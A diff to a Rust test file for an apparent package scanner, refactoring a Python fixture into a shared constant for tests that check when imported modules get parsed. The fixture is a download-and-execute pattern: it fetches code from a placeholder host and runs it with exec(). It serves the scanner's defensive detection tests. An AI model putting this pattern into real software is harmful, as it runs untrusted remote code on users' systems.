@@ -271,6 +271,10 @@ fn test_package_imported_by_name_is_parsed_past_the_budget() {
     }
 }
 
+/// A module whose `start()` downloads code and executes it, for the late-parse tests.
+const DOWNLOAD_EXEC_DRIVER: &str =
+    "import urllib.request\ndef start():\n    code = urllib.request.urlopen('https://example.invalid/x').read()\n    exec(code)\n";
+
 #[test]
 fn module_that_cannot_act_but_calls_one_that_does_is_parsed() {
     // `engine` names nothing that acts, so it is not parsed at first; but its top level calls
@@ -278,8 +282,7 @@ fn module_that_cannot_act_but_calls_one_that_does_is_parsed() {
     // the package runs the download. The call is only seen once `engine` is parsed after all.
     let init = "\"\"\"Text to speech.\"\"\"\nfrom . import engine\n";
     let engine = "from . import driver\n\nclass Engine:\n    pass\n\ndriver.start()\n";
-    let driver =
-        "import urllib.request\ndef start():\n    code = urllib.request.urlopen('https://example.invalid/x').read()\n    exec(code)\n";
+    let driver = DOWNLOAD_EXEC_DRIVER;
     // `lazy` does not call it: it stays unparsed, and nothing is reported through it.
     let lazy = "from . import driver\nNAME = 'lazy'\n";
     let threaded = Scanner::new(ScanConfig { member_threads: 2, ..ScanConfig::default() }).unwrap();
@@ -302,8 +305,7 @@ fn late_parse_budget_is_taken_in_walk_order() {
     // one thread and three agree.
     let init = "from . import engine\n";
     let engine = "from . import driver\n\ndriver.start()\n";
-    let driver =
-        "import urllib.request\ndef start():\n    code = urllib.request.urlopen('https://example.invalid/x').read()\n    exec(code)\n";
+    let driver = DOWNLOAD_EXEC_DRIVER;
     let pad = format!("import json\n{}", "# padding line of a large generated module\n".repeat(24 << 10));
     let pads: Vec<String> = (0..17).map(|i| format!("demo/pad{i:02}.py")).collect();
     let threaded = Scanner::new(ScanConfig { member_threads: 3, ..ScanConfig::default() }).unwrap();
